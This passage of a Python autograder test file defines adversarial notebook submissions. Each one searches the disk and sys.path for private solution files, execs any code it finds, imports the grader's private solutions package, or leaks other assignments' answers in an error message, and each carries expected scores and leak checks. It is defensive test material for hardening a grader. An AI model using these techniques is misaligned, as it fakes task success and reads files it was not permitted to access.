        dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev")]
        for f in files:
            if not f.endswith((".py", ".ipynb", ".zip", ".whl")):
                continue
            p = os.path.join(top, f)
            try:
                if os.path.getsize(p) > 8 << 20:
                    continue
                _searched[0] += 1
                if f.endswith((".zip", ".whl")):
                    with zipfile.ZipFile(p) as z:
                        for n in z.namelist()[:2000]:
                            if n.endswith((".py", ".ipynb")):
                                _consider(p + "!" + n, _code(z.read(n).decode("utf-8", "replace"), n))
                else:
                    with open(p, encoding="utf-8", errors="replace") as fh:
                        _consider(p, _code(fh.read(), f))
            except Exception:
                pass
for _name in {modules!r}:
    try:
        _m = importlib.import_module(_name)
        _found.append(("import " + _name, open(_m.__file__).read() if getattr(_m, "__file__", None) else ""))
    except Exception:
        pass
for _entry in list(sys.path) + [os.path.dirname(os.path.dirname(m.__file__)) for m in list(sys.modules.values())
                                 if getattr(m, "__file__", None)][:400]:
    for _rel in ("autograder/private/solutions", "solutions", "kit/autograder/private/solutions"):
        _d = os.path.join(_entry or ".", _rel)
        try:
            for _f in os.listdir(_d):
                if _f.endswith(".py"):
                    with open(os.path.join(_d, _f)) as fh:
                        _consider(os.path.join(_d, _f), fh.read())
        except Exception:
            pass
_search(time.monotonic() + 12)
"""


def _search_cell(needles, modules=()):
    return SEARCH_CELL.format(needles=list(needles), modules=list(modules))


@case(
    "search_disk_for_answers",
    "while loading, a cell walks every folder the worker can reach (and every zip) "
    "for files defining causal_mask, and tries the kit's private package by name; causal_mask then executes "
    "each one found and returns the first that gives a correct mask (none: a wrong mask on the right device)",
    max_score=FULL - 1.5,
    questions_lose=["causal_mask"],  # 0.5: its device check, as an honest wrong mask earns
    questions_keep_full=others("causal_mask"),
    root_only=ROOT_WHY,
)
def _():
    nb = replace_function(
        reference(demo=False),
        "causal_mask",
        (
            "def causal_mask(seq_len, device=None):\n"
            "    want = torch.ones(4, 4, dtype=torch.bool).tril()\n"
            "    for where, text in _found:\n"
            "        ns = {'__name__': 'found', 'torch': torch, 'math': __import__('math')}\n"
            "        try:\n"
            "            exec(compile(text, where, 'exec'), ns)\n"
            "            if torch.equal(ns['causal_mask'](4).cpu(), want):\n"
            "                return ns['causal_mask'](seq_len, device=device)\n"
            "        except BaseException:\n"
            "            continue\n"
            "    return torch.zeros(seq_len, seq_len, dtype=torch.bool, device=device)\n"
        ),
    )
    nb["cells"].insert(
        1, code_cell(_search_cell(["def causal_mask("], [f"autograder.private.solutions.{SDP}", f"solutions.{SDP}"]))
    )
    return ipynb(nb)


@case(
    "read_other_assignment",
    "a scaled_dot_product notebook searches the disk for the other assignments' "
    "material (additive_attention, split_heads, MultiHeadAttention) and raises what it found",
    max_score=FULL - 2,
    questions_zero=["causal_mask"],
    questions_keep_full=others("causal_mask"),
    leak_files=["private/solutions/classic_attention.py", "private/solutions/multi_head.py"],
    must_not_contain=["def additive_attention(", "def split_heads("],
    root_only=ROOT_WHY,
)
def _():
    nb = reference(demo=False)
    nb["cells"].insert(
        1,
        code_cell(
            _search_cell(
                ["def additive_attention(", "def split_heads(", "class MultiHeadAttention("],
                [
                    "autograder.private.solutions.classic_attention",
                    "autograder.private.solutions.multi_head",
                    "solutions.classic_attention",
                    "solutions.multi_head",
                ],
            )
        ),
    )
    return ipynb(
        replace_function(
            nb,
            "causal_mask",
            (
                "def causal_mask(seq_len, device=None):\n"
                "    lines = [l for _, t in _found for l in t.splitlines()\n"
                "             if 'def additive_attention(' in l or 'def split_heads(' in l or 'return' in l]\n"
                "    raise RuntimeError(f'searched {_searched[0]} files: ' + ' | '.join(lines[:40]))\n"
            ),
        )
    )


@case(
    "import_private_package",
    "padding_mask imports the kit's private package by every name "
    "(autograder.private, the old top-level solutions) and loads any copy on sys.path by file; it uses the "
    "reference when it finds one",
    max_score=FULL - 2,
    questions_zero=["padding_mask"],
    questions_keep_full=others("padding_mask"),
    root_only=ROOT_WHY,
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "padding_mask",
            (
                "def padding_mask(lengths, max_len=None):\n"
                "    import importlib, importlib.util, os, sys\n"
                "    for name in ('autograder.private.solutions.scaled_dot_product', 'solutions.scaled_dot_product'):\n"
                "        try:\n"
                "            return importlib.import_module(name).padding_mask(lengths, max_len)\n"
                "        except Exception:\n"
                "            pass\n"
                "    for entry in sys.path:\n"
                "        for rel in ('autograder/private/solutions/scaled_dot_product.py', 'solutions/scaled_dot_product.py'):\n"
                "            path = os.path.join(entry or '.', rel)\n"
                "            try:\n"
                "                spec = importlib.util.spec_from_file_location('found', path)\n"
                "                module = importlib.util.module_from_spec(spec)\n"
                "                spec.loader.exec_module(module)\n"
                "                return module.padding_mask(lengths, max_len)\n"
                "            except Exception:\n"
                "                continue\n"
                "    raise RuntimeError('no copy of the reference found')\n"
            ),
        )
    )
